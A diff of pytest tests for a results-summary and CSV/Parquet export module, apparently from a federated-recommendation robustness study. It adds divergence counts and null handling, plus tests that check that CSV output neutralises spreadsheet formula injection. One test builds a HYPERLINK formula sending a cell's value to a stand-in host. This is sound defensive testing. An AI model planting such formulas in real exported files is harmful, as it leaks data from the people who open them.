@@ -97,20 +97,27 @@ def test_curves_have_a_row_for_each_run_and_evaluation():
 def test_an_interval_that_is_not_known_is_null():
     one, two = (
         Cell(("mean",), 1, 0.5, math.nan, math.nan),
-        Cell(("krum",), 2, 0.5, 1, 2),
+        Cell(("krum",), 2, 0.5, 1, 2, diverged=1),
     )
     assert summary_rows({"hr@10": [one, two]}, ["aggregator"]) == [
-        {"aggregator": "mean", "metric": "hr@10", "runs": 1, "mean": 0.5}
-        | dict.fromkeys(("deviation", "low", "high")),
-        {"aggregator": "krum", "metric": "hr@10", "runs": 2, "mean": 0.5}
-        | {"deviation": 1, "low": -1.5, "high": 2.5},
+        {"aggregator": "mean", "metric": "hr@10", "runs": 1, "diverged": 0}
+        | {"mean": 0.5, "deviation": None, "low": None, "high": None},
+        {"aggregator": "krum", "metric": "hr@10", "runs": 2, "diverged": 1}
+        | {"mean": 0.5, "deviation": 1, "low": -1.5, "high": 2.5},
     ]
+
+
+def test_a_mean_of_no_run_is_null():
+    nobody = Cell(("mean",), 0, math.nan, math.nan, math.nan)
+    (row,) = summary_rows({"hr@10_head": [nobody]}, ["aggregator"])
+    assert row["runs"] == 0
+    assert {row[name] for name in ("mean", "deviation", "low", "high")} == {None}
 
 
 def test_a_worst_case_stands_beside_its_clean_mean():
     group_by = ["attack", "aggregator"]
     cells = [
-        Cell(("none", "mean"), 2, 0.5, 0.1, 0.1),
+        Cell(("none", "mean"), 2, 0.5, 0.1, 0.1, diverged=1),
         Cell(("spattack_o_d", "mean"), 2, 0.25, 0.1, 0.125),
         Cell(("spattack_o_d", "krum"), 2, 0.25, 0.1, 0.125),
     ]
@@ -121,11 +128,13 @@ def test_a_worst_case_stands_beside_its_clean_mean():
         "clean_mean": 0.5,
         "worst_attack": "spattack_o_d",
         "runs": 2,
+        "diverged": 0,
         "mean": 0.25,
         "deviation": 0.1,
         "low": 0.125,
         "high": 0.375,
         "change_percent": -50.0,
+        "clean_diverged": 1,
     }
     assert (krum["aggregator"], krum["clean_mean"]) == ("krum", None)
     assert krum["change_percent"] is None
@@ -146,6 +155,28 @@ def test_csv_and_parquet_read_back_as_what_was_written(tmp_path_factory, rows):
         for row in read_csv(folder / "rows.csv")
     ]
     assert read == expected
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_text_of_a_csv_is_a_formula(tmp_path, first):
+    text = f'{first}HYPERLINK("http://x/?"&A1)'
+    write_rows([{"dataset": text, first: 1}], tmp_path / "rows.csv")
+    (row,) = read_csv(tmp_path / "rows.csv")
+    assert row == {"dataset": f"'{text}", f"'{first}" if first != "-" else "-": "1"}
+
+
+@pytest.mark.parametrize(
+    "number", [-0.5, -3, "-0.1234", "+3", "-12 %", "-1,234", "-1e-05", "-", "−3", "a=b"]
+)
+def test_numbers_and_other_texts_stay_as_they_are_in_csv(tmp_path, number):
+    write_rows([{"column": number}], tmp_path / "rows.csv")
+    assert read_csv(tmp_path / "rows.csv") == [{"column": str(number)}]
+
+
+@pytest.mark.parametrize("text", ["-1+1", "+1 (-50 %)", "-2 ± 1", "-x", "--", "=1"])
+def test_a_text_that_only_begins_as_a_number_does_not(tmp_path, text):
+    write_rows([{"column": text}], tmp_path / "rows.csv")
+    assert read_csv(tmp_path / "rows.csv") == [{"column": f"'{text}"}]
 
 
 def test_columns_are_those_of_all_rows_in_order_of_appearance(tmp_path):
